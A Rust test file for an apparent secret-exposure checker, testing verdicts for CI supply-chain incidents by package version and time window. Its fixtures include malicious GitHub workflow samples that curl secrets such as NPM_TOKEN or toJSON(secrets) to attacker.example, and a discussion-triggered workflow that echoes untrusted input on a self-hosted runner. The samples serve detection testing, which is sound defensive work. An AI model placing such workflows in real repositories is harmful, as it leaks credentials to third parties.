//! Travis CI, PyTorch nightly, CircleCI, Ultralytics, Nx, GhostAction, and both Shai-Hulud worms.

mod locks;

use std::{collections::BTreeSet, fs, path::Path};

use jiff::Timestamp;
use keysweep::{
    assess::Verdict::{Cleared, Exposed, NotFound, Unknown},
    ci::model::{Component, Kind, Os, Pinned, Verified},
    incident::{self, Context, SOURCES, WindowKind, find},
};

use super::{CI, judged, standing, taken};

/// A job that runs the command with one secret in its environment, and another secret in another job.
fn job(command: &str) -> String {
    format!(
        "on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: {command}
        env:
          HERE: ${{{{ secrets.IN_STEP }}}}
  other:
    runs-on: ubuntu-latest
    steps:
      - run: make
        env:
          THERE: ${{{{ secrets.ELSEWHERE }}}}
"
    )
}

fn package(name: &str, version: Option<&str>) -> Component {
    let (reference, pinned) = match version {
        Some(version) => (Some(version.to_owned()), Pinned::Version),
        None => (None, Pinned::No),
    };
    Component {
        kind: Kind::Package,
        name: name.to_owned(),
        reference,
        pinned,
        verified: Verified::No,
    }
}

fn plain(kind: Kind, name: &str) -> Component {
    Component {
        kind,
        name: name.to_owned(),
        reference: None,
        pinned: Pinned::No,
        verified: Verified::No,
    }
}

/// One file of this text from one date on, until it is removed.
fn lived(
    incident: &str,
    path: &str,
    text: &str,
    from: &str,
    to: &str,
) -> (keysweep::assess::Verdict, Vec<String>) {
    judged(incident, &[(from, &[(path, text)]), (to, &[(path, ""), ("README.md", "x")])])
}

const TRAVIS: &str =
    "language: python\nscript: deploy $DEPLOY_TOKEN\nenv:\n  - secure: \"c2VhbGVk\"\n";

#[test]
fn travis_gave_out_what_it_stored_if_the_repository_is_public() {
    let (verdict, names) =
        lived("travis-2021", ".travis.yml", TRAVIS, "2020-01-01T00:00:00Z", "2022-01-01T00:00:00Z");
    // Nothing in a checkout says whether everybody may read the repository.
    assert_eq!(verdict, Unknown);
    for name in ["*?", "DEPLOY_TOKEN?", "secure:4?"] {
        assert!(names.iter().any(|found| found == name), "{name} is not in {names:?}");
    }
    let vendor = plain(Kind::Vendor, "travis");
    for (public, expected) in [(Some(true), "bad"), (Some(false), "cleared"), (None, "unknown")] {
        let context = Context { public, ..Context::default() };
        assert_eq!(standing("travis-2021", &vendor, &context), expected, "{public:?}");
    }
}

#[test]
fn travis_is_cleared_for_a_later_customer_and_missed_for_another_system() {
    let after =
        lived("travis-2021", ".travis.yml", TRAVIS, "2021-09-11T00:00:00Z", "2022-01-01T00:00:00Z");
    assert_eq!(after, (Cleared, vec![]));
    let last_day =
        lived("travis-2021", ".travis.yml", TRAVIS, "2021-09-10T23:59:59Z", "2022-01-01T00:00:00Z");
    assert_eq!(last_day.0, Unknown);
    let other = taken("travis-2021", &[("2021-01-01T00:00:00Z", &[(CI, &job("make"))])]);
    assert_eq!(other, (NotFound, vec![]));
}

const CIRCLE: &str = "version: 2.1\njobs:\n  a:\n    docker: [{image: cimg/base}]\n    \
                      steps: [{run: deploy $DEPLOY_KEY}]\nworkflows: {w: {jobs: [{a: {context: prod}}]}}\n";

#[test]
fn circleci_lost_what_was_stored_before_and_nothing_entered_later() {
    let config = ".circleci/config.yml";
    let (verdict, names) =
        lived("circleci-2023", config, CIRCLE, "2021-01-01T00:00:00Z", "2023-06-01T00:00:00Z");
    assert_eq!(verdict, Exposed);
    for name in ["*", "DEPLOY_KEY?", "api-tokens?", "checkout-key"] {
        assert!(names.iter().any(|found| found == name), "{name} is not in {names:?}");
    }
    // After the copying and before the day that counts as clean: to be searched, so possible.
    let (verdict, names) =
        lived("circleci-2023", config, CIRCLE, "2023-01-02T00:00:00Z", "2023-06-01T00:00:00Z");
    assert_eq!(verdict, Exposed);
    assert!(!names.is_empty() && names.iter().all(|name| name.ends_with('?')), "{names:?}");
    let later =
        lived("circleci-2023", config, CIRCLE, "2023-01-06T00:00:00Z", "2023-06-01T00:00:00Z");
    assert_eq!(later, (Cleared, vec![]));
    let other = taken("circleci-2023", &[("2022-01-01T00:00:00Z", &[(".travis.yml", TRAVIS)])]);
    assert_eq!(other, (NotFound, vec![]));
}

#[test]
fn pytorch_nightly_pulled_torchtriton_from_pypi() {
    let window = ("2022-12-20T00:00:00Z", "2023-02-01T00:00:00Z");
    let run = |command: &str| lived("pytorch-nightly-2022", CI, &job(command), window.0, window.1);
    assert_eq!(
        run("uvx --with torchtriton python train.py"),
        (Exposed, vec!["IN_STEP".to_owned()])
    );
    assert_eq!(
        run("uvx --with torch==2.0.0.dev20221228 python train.py"),
        (Exposed, vec!["IN_STEP".to_owned()])
    );
    assert_eq!(run("uvx --with torch==1.13.1 python train.py"), (Cleared, vec![]));
    // Whether that was a nightly build its name does not say.
    assert_eq!(run("uvx --with torch python train.py").0, Unknown);
    assert_eq!(run("uvx --with pytorch-triton python train.py"), (Cleared, vec![]));
    assert_eq!(run("uvx --with numpy python train.py"), (NotFound, vec![]));
    let triton = job("uvx --with torchtriton python train.py");
    for (from, to, expected) in [
        ("2022-12-01T00:00:00Z", "2022-12-24T23:59:59Z", Cleared),
        ("2022-12-01T00:00:00Z", "2022-12-25T00:00:01Z", Exposed),
        ("2022-12-30T23:59:59Z", "2023-02-01T00:00:00Z", Exposed),
        ("2022-12-31T00:00:00Z", "2023-02-01T00:00:00Z", Cleared),
    ] {
        let (verdict, _) = lived("pytorch-nightly-2022", CI, &triton, from, to);
        assert_eq!(verdict, expected, "{from}");
    }
    let nightly = package("pypi:torch", Some("2.0.0.dev20221228"));
    for (os, expected) in [(Os::Linux, "bad"), (Os::Macos, "cleared"), (Os::Unknown, "unknown")] {
        let context = Context { os, ..Context::default() };
        assert_eq!(standing("pytorch-nightly-2022", &nightly, &context), expected, "{os:?}");
    }
}

#[test]
fn ultralytics_is_possible_only_and_in_the_window_of_its_release() {
    let run = |command: &str, from: &str, to: &str| {
        lived("ultralytics-2024", CI, &job(command), from, to)
    };
    let first = "uvx --with ultralytics==8.3.41 python train.py";
    let possible = || (Exposed, vec!["IN_STEP?".to_owned()]);
    let (verdict, names) = run(first, "2024-12-05T01:00:00Z", "2024-12-05T02:00:00Z");
    // A miner is all that is known; nobody says that it read anything.
    assert_eq!((verdict, names.contains(&"IN_STEP?".to_owned())), (Exposed, true), "{names:?}");
    assert!(names.iter().all(|name| name.ends_with('?')), "{names:?}");
    assert_eq!(run(first, "2024-12-05T09:17:00Z", "2025-01-01T00:00:00Z"), (Cleared, vec![]));
    // The second was there only after the first was gone.
    let second = "uvx --with ultralytics==8.3.42 python train.py";
    assert_eq!(run(second, "2024-12-05T01:00:00Z", "2024-12-05T02:00:00Z"), (Cleared, vec![]));
    assert_eq!(run(second, "2024-12-05T13:00:00Z", "2024-12-05T13:10:00Z").0, possible().0);
    let clean = "uvx --with ultralytics==8.3.43 python train.py";
    assert_eq!(run(clean, "2024-12-01T00:00:00Z", "2025-01-01T00:00:00Z"), (Cleared, vec![]));
    let none = "uvx --with ultralytics python train.py";
    assert_eq!(run(none, "2024-12-01T00:00:00Z", "2025-01-01T00:00:00Z").0, Exposed);
    let other = "uvx --with yolov5 python train.py";
    assert_eq!(run(other, "2024-12-01T00:00:00Z", "2025-01-01T00:00:00Z"), (NotFound, vec![]));
}

#[test]
fn nx_is_judged_by_release_and_by_the_window_of_that_release() {
    let run = |spec: &str, from: &str, to: &str| {
        lived("nx-2025", CI, &job(&format!("npx {spec} build")), from, to)
    };
    let (long, after) = ("2025-08-01T00:00:00Z", "2025-10-01T00:00:00Z");
    let hit = || (Exposed, vec!["IN_STEP".to_owned()]);
    assert_eq!(run("nx@21.5.0", long, after), hit());
    assert_eq!(run("@nx/key@3.2.0", long, after), hit());
    assert_eq!(run("nx@21.4.1", long, after), (Cleared, vec![]));
    assert_eq!(run("nx@20.8.0", long, after), (Cleared, vec![]));
    assert_eq!(run("@nx/eslint@20.9.0", long, after), (Cleared, vec![]));
    assert_eq!(run("nx", long, after), (Exposed, vec!["IN_STEP?".to_owned()]));
    assert_eq!(run("nx-cloud@19.0.0", long, after), (NotFound, vec![]));
    // 21.5.0 from 22:32 to 02:44 UTC, 21.8.0 only from 00:37 on, the key until 10:20.
    for (spec, from, to, expected) in [
        ("nx@21.5.0", "2025-08-26T20:00:00Z", "2025-08-26T22:31:00Z", Cleared),
        ("nx@21.5.0", "2025-08-26T22:00:00Z", "2025-08-26T22:33:00Z", Exposed),
        ("nx@21.5.0", "2025-08-27T02:44:30Z", "2025-08-27T05:00:00Z", Exposed),
        ("nx@21.5.0", "2025-08-27T02:45:00Z", "2025-08-27T05:00:00Z", Cleared),
        ("nx@21.8.0", "2025-08-26T22:00:00Z", "2025-08-27T00:36:00Z", Cleared),
        ("nx@21.8.0", "2025-08-27T00:38:00Z", "2025-08-27T00:40:00Z", Exposed),
        ("@nx/key@3.2.0", "2025-08-27T09:00:00Z", "2025-08-28T00:00:00Z", Exposed),
        ("@nx/key@3.2.0", "2025-08-27T10:21:00Z", "2025-08-28T00:00:00Z", Cleared),
    ] {
        assert_eq!(run(spec, from, to).0, expected, "{spec} {from}");
    }
}

#[test]
fn a_postinstall_payload_needs_install_scripts() {
    for (incident, name, version) in [
        ("nx-2025", "npm:nx", "21.5.0"),
        ("shai-hulud-2025", "npm:@ctrl/tinycolor", "4.1.1"),
        ("shai-hulud-2-2025", "npm:posthog-node", "4.18.1"),
    ] {
        let bad = package(name, Some(version));
        for (install_scripts, expected) in
            [(Some(true), "bad"), (Some(false), "took nothing"), (None, "bad")]
        {
            let context = Context { install_scripts, ..Context::default() };
            assert_eq!(standing(incident, &bad, &context), expected, "{name} {install_scripts:?}");
        }
    }
}

#[test]
fn nx_console_installed_nx_in_the_editor() {
    let console = |version: &str| Component {
        kind: Kind::Extension,
        reference: Some(version.to_owned()),
        ..package("vscode:nrwl.angular-console", Some(version))
    };
    for (version, expected) in
        [("18.6.30", "bad"), ("18.65.1", "bad"), ("18.66.0", "cleared"), ("18.6.29", "cleared")]
    {
        let said = standing("nx-2025", &console(version), &Context::default());
        assert_eq!(said, expected, "{version}");
    }
}

#[test]
fn nx_local_times_read_as_the_right_instants() {
    let at = |text: &str| Some(text.parse::<Timestamp>().unwrap());
    let pack = find("nx-2025").unwrap();
    for (component, from, to) in [
        ("nx-21.5.0", "2025-08-26T22:32:00Z", "2025-08-27T02:45:00Z"),
        ("key-3.2.0", "2025-08-26T22:32:00Z", "2025-08-27T10:21:00Z"),
        ("nx-20.9.0", "2025-08-26T22:39:00Z", "2025-08-27T02:45:00Z"),
        ("nx-20.10.0", "2025-08-26T23:54:00Z", "2025-08-27T02:45:00Z"),
        ("nx-20.11.0", "2025-08-27T00:16:00Z", "2025-08-27T02:45:00Z"),
        ("nx-21.7.0", "2025-08-27T00:17:00Z", "2025-08-27T02:45:00Z"),
        ("nx-21.8.0", "2025-08-27T00:37:00Z", "2025-08-27T02:45:00Z"),
        ("nx-console", "2025-08-26T22:37:00Z", "2025-08-27T02:45:00Z"),
    ] {
        let found = pack.components().iter().find(|c| c.id() == component).unwrap();
        let served = found.windows.iter().find(|w| w.kind == WindowKind::Served).unwrap();
        assert_eq!((served.from, served.to), (at(from), at(to)), "{component}");
    }
}

const PUSHED: &str = "name: Github Actions Security\non:\n  workflow_dispatch:\n  push:\njobs:\n  \
                      send-secrets:\n    runs-on: ubuntu-latest\n    steps:\n      \
                      - name: Prepare Cache Busting\n        \
                      run: echo \"CACHE_BUST=$(date +%s)\" >> $GITHUB_ENV\n      \
                      - name: Github Actions Security\n        run: |\n          \
                      curl -s -X POST -d 'NPM_TOKEN=${{ secrets.NPM_TOKEN }}&KEY=${{ secrets.KEY }}' \
                      https://attacker.example\n";

#[test]
fn ghostaction_took_what_the_pushed_file_names() {
    let file = ".github/workflows/github_actions_security.yml";
    let own = job("make");
    let history = |from: &'static str, to: &'static str| {
        taken(
            "ghostaction-2025",
            &[
                ("2024-01-01T00:00:00Z", &[(CI, &own)]),
                (from, &[(file, PUSHED)]),
                (to, &[(file, "")]),
            ],
        )
    };
    let (verdict, names) = history("2025-09-03T10:00:00Z", "2025-09-04T00:00:00Z");
    assert_eq!(verdict, Exposed);
    // Not what the repository's own workflow uses.
    assert!(names.contains(&"NPM_TOKEN".to_owned()) && names.contains(&"KEY".to_owned()));
    assert!(!names.iter().any(|name| name.contains("IN_STEP")), "{names:?}");
    // The server was gone; to be searched for all the same.
    let (verdict, names) = history("2025-09-06T00:00:00Z", "2025-09-07T00:00:00Z");
    assert_eq!((verdict, names.contains(&"NPM_TOKEN?".to_owned())), (Exposed, true), "{names:?}");
    // Between the campaigns.
    let between = history("2025-11-01T00:00:00Z", "2025-12-01T00:00:00Z");
    assert_eq!(between, (Cleared, vec![]));
    // And in the second one.
    assert_eq!(history("2026-09-05T00:00:00Z", "2026-09-20T00:00:00Z").0, Exposed);
    let none = taken("ghostaction-2025", &[("2025-09-03T10:00:00Z", &[(CI, &own)])]);
    assert_eq!(none, (NotFound, vec![]));
}

#[test]
fn a_common_file_name_of_the_second_campaign_is_no_hit() {
    let audit = ".github/workflows/security-audit.yml";
    let found =
        lived("ghostaction-2025", audit, PUSHED, "2026-09-05T00:00:00Z", "2026-09-20T00:00:00Z");
    assert_eq!(found, (NotFound, vec![]));
}

#[test]
fn shai_hulud_by_release_by_date_and_by_its_workflow() {
    let run = |spec: &str, from: &str, to: &str| {
        lived("shai-hulud-2025", CI, &job(&format!("npx {spec}")), from, to)
    };
    let (long, after) = ("2025-09-01T00:00:00Z", "2025-12-01T00:00:00Z");
    assert_eq!(run("@ctrl/tinycolor@4.1.1", long, after), (Exposed, vec!["IN_STEP".to_owned()]));
    assert_eq!(run("@ctrl/tinycolor@4.1.0", long, after), (Cleared, vec![]));
    assert_eq!(run("@ctrl/tinycolor@4.2.0", long, after), (Cleared, vec![]));
    assert_eq!(run("debug@4.4.2", long, after), (Cleared, vec![]));
    assert_eq!(run("left-pad@1.3.0", long, after), (NotFound, vec![]));
    // On one list only.
    assert_eq!(run("ng-imports-checker@0.0.9", long, after).0, Exposed);
    let (_, names) = run("ng-imports-checker@0.0.9", long, after);
    assert_eq!(names, ["IN_STEP?"]);
    for (from, to, expected) in [
        ("2025-09-01T00:00:00Z", "2025-09-14T17:58:50Z", Cleared),
        ("2025-09-01T00:00:00Z", "2025-09-14T17:58:51Z", Exposed),
        ("2025-09-22T23:59:59Z", "2025-12-01T00:00:00Z", Exposed),
        ("2025-09-23T00:00:00Z", "2025-12-01T00:00:00Z", Cleared),
    ] {
        assert_eq!(run("@ctrl/tinycolor@4.1.2", from, to).0, expected, "{from}");
    }
    let pushed = "on: push\njobs:\n  p:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d \
                  \"$CONTENTS\" https://attacker.example\n        env:\n          \
                  CONTENTS: ${{ toJSON(secrets) }}\n";
    let file = ".github/workflows/shai-hulud-workflow.yml";
    let (verdict, names) =
        lived("shai-hulud-2025", file, pushed, "2025-09-16T00:00:00Z", "2025-09-17T00:00:00Z");
    assert_eq!(verdict, Exposed);
    assert!(names.contains(&"*".to_owned()), "{names:?}");
}

#[test]
fn shai_hulud_2_has_the_times_that_two_victims_published() {
    let run = |spec: &str, from: &str, to: &str| {
        lived("shai-hulud-2-2025", CI, &job(&format!("npx {spec}")), from, to)
    };
    let (long, after) = ("2025-11-01T00:00:00Z", "2026-02-01T00:00:00Z");
    let hit = || (Exposed, vec!["IN_STEP".to_owned()]);
    assert_eq!(run("zapier-platform-cli@18.0.4", long, after), hit());
    assert_eq!(run("zapier-platform-cli@18.0.1", long, after), (Cleared, vec![]));
    assert_eq!(run("@posthog/cli@0.5.15", long, after), hit());
    assert_eq!(run("utilitas@2000.3.4", long, after), (Cleared, vec![]));
    assert_eq!(run("left-pad@1.3.0", long, after), (NotFound, vec![]));
    for (spec, from, to, expected) in [
        ("@asyncapi/cli@4.1.2", "2025-11-23T00:00:00Z", "2025-11-24T03:58:47Z", Cleared),
        ("@asyncapi/cli@4.1.2", "2025-11-24T04:00:00Z", "2025-11-24T05:00:00Z", Exposed),
        ("@asyncapi/cli@4.1.2", "2025-11-24T11:47:00Z", "2025-12-01T00:00:00Z", Cleared),
        ("posthog-node@5.13.3", "2025-11-24T00:00:00Z", "2025-11-24T04:10:00Z", Cleared),
        ("posthog-node@5.13.3", "2025-11-24T05:00:00Z", "2025-12-01T00:00:00Z", Exposed),
        ("posthog-node@5.13.3", "2025-11-25T00:00:00Z", "2025-12-01T00:00:00Z", Cleared),
    ] {
        assert_eq!(run(spec, from, to).0, expected, "{spec} {from}");
    }
}

#[test]
fn shai_hulud_2_pushed_two_workflows_one_of_them_with_a_common_name() {
    let collect = "on: push\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    env:\n      DATA: ${{ \
                   toJSON(secrets)}}\n    steps:\n      - run: make\n";
    let file = ".github/workflows/formatter_123456789.yml";
    let (verdict, names) =
        lived("shai-hulud-2-2025", file, collect, "2025-11-24T00:00:00Z", "2025-11-25T00:00:00Z");
    assert_eq!(verdict, Exposed);
    assert!(names.contains(&"*".to_owned()), "{names:?}");
    let listens = "on: discussion\njobs:\n  process:\n    runs-on: self-hosted\n    steps:\n      - run: \
                   echo ${{ github.event.discussion.body }}\n        env:\n          A: ${{ secrets.A }}\n";
    let file = ".github/workflows/discussion.yaml";
    let (verdict, names) =
        lived("shai-hulud-2-2025", file, listens, "2025-11-24T00:00:00Z", "2025-11-25T00:00:00Z");
    assert_eq!(verdict, Exposed);
    assert!(!names.is_empty() && names.iter().all(|name| name.ends_with('?')), "{names:?}");
    let before =
        lived("shai-hulud-2-2025", file, listens, "2025-01-01T00:00:00Z", "2025-11-20T00:00:00Z");
    assert_eq!(before, (NotFound, vec![]));
}

#[test]
fn every_pack_in_the_folder_is_built_in_and_lints_clean() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("src/incident/packs");
    let there: BTreeSet<String> = fs::read_dir(folder)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect();
    let built_in: BTreeSet<String> = SOURCES.iter().map(|(name, _)| (*name).to_owned()).collect();
    assert_eq!(there, built_in);
    assert!(SOURCES.is_sorted_by_key(|(name, _)| *name));
    for (name, text) in SOURCES {
        assert_eq!(incident::check(text, name), vec![], "{name}");
    }
}

/// Earlier incidents without a pack, and why there is none.
const WITHOUT_PACK: &[(&str, &str)] = &[
    ("spotbugs-2024", "an attack on one repository; what it led to begins with reviewdog-2025"),
    ("trivy-february-2026", "an attack on one project's own token; what it led to is trivy-2026"),
    ("GHSA-7x29-qqmq-v6qc", "a flaw of an action that was used against its own project only"),
];

#[test]
fn what_made_an_incident_possible_is_known_or_explained() {
    for pack in incident::builtin() {
        for edge in &pack.document().enabled_by {
            let explained = WITHOUT_PACK.iter().any(|(id, _)| *id == edge.incident);
            let known = find(&edge.incident).is_ok_and(|known| known.id() != pack.id());
            assert!(known || explained, "{}: {}", pack.id(), edge.incident);
        }
    }
}

#[test]
fn a_pack_says_what_to_do_and_who_could_read_what_was_taken() {
    for pack in incident::builtin() {
        let document = pack.document();
        assert!(!document.guidance.is_empty(), "{}", pack.id());
        assert!(!document.rotation.is_empty(), "{}", pack.id());
        for component in pack.components() {
            assert!(component.exfiltration.is_some(), "{} {}", pack.id(), component.id());
        }
    }
}

/// The lists were taken over by a script: none of their entries may get lost by hand.
#[test]
fn the_lists_of_bad_releases_are_whole() {
    for (incident, component, releases) in [
        ("shai-hulud-2025", "packages", 529),
        ("shai-hulud-2025", "packages-one-list", 50),
        ("shai-hulud-2-2025", "asyncapi", 75),
        ("shai-hulud-2-2025", "posthog", 65),
        ("shai-hulud-2-2025", "packages", 951),
    ] {
        let pack = find(incident).unwrap();
        let found = pack.components().iter().find(|c| c.id() == component).unwrap();
        assert_eq!(found.entry.packages.len(), releases, "{incident} {component}");
    }
}
